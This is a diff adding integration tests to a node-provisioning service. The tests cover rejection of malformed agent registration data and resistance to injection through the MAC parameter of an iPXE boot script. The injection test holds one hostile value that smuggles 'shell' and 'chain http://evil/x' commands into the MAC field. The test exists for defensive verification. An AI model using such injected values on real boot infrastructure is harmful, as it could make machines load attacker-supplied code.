@@ -255,3 +255,38 @@ TEST_CASE("Cancelling a task stops its agent", "[integration][agent]") {
   CHECK(fetch.status == 401);
   CHECK(codeOf(fetch) == "agent_token_revoked");
 }
+
+TEST_CASE("Bad agent input is refused without using up the boot token", "[integration][agent]") {
+  ServiceFixture svc;
+  prepareCatalog(svc);
+  const long long node = testing::makeBootNode(svc, "SN-BAD", "02:00:00:00:00:0e");
+  REQUIRE(svc.sendJson("POST", "/api/v1/nodes/" + std::to_string(node) + "/burn-in",
+                       json::object(), "operator")
+              .status == 201);
+  const std::string token = tokenIn(bootScript(svc, "02:00:00:00:00:0e").body);
+  const std::string path = "/api/v1/agent/nodes/" + std::to_string(node) + "/register";
+
+  auto malformed = svc.anonymous("POST", path, "{\"gpus\": [", bearer(token));
+  CHECK(malformed.status == 400);
+  CHECK(codeOf(malformed) == "malformed_json");
+  auto facts = agent::toJson(factsFor("SN-BAD", 8));
+  facts["gpus"][2]["memory_mib"] = "lots";
+  auto bad_field = svc.anonymous("POST", path, facts.dump(), bearer(token));
+  CHECK(bad_field.status == 400);
+  CHECK(codeOf(bad_field) == "invalid_facts");
+  CHECK(bad_field.json().value("field", "").find("gpus[2]") != std::string::npos);
+
+  // The token is still good: the bad attempts changed nothing.
+  auto session = registerAgent(svc, node, token, factsFor("SN-BAD", 8));
+  CHECK(session.task_id > 0);
+}
+
+TEST_CASE("A hostile MAC parameter cannot inject iPXE commands", "[integration][boot]") {
+  ServiceFixture svc;
+  auto script = bootScript(svc, "aa%0Ashell%0Achain%20http://evil/x");
+  REQUIRE(script.status == 200);
+  CHECK(script.body.rfind("#!ipxe\n", 0) == 0);
+  CHECK(script.body.find("\nshell") == std::string::npos);
+  CHECK(script.body.find("evil") == std::string::npos);
+  CHECK(script.body.find("${net0/mac}") != std::string::npos);
+}
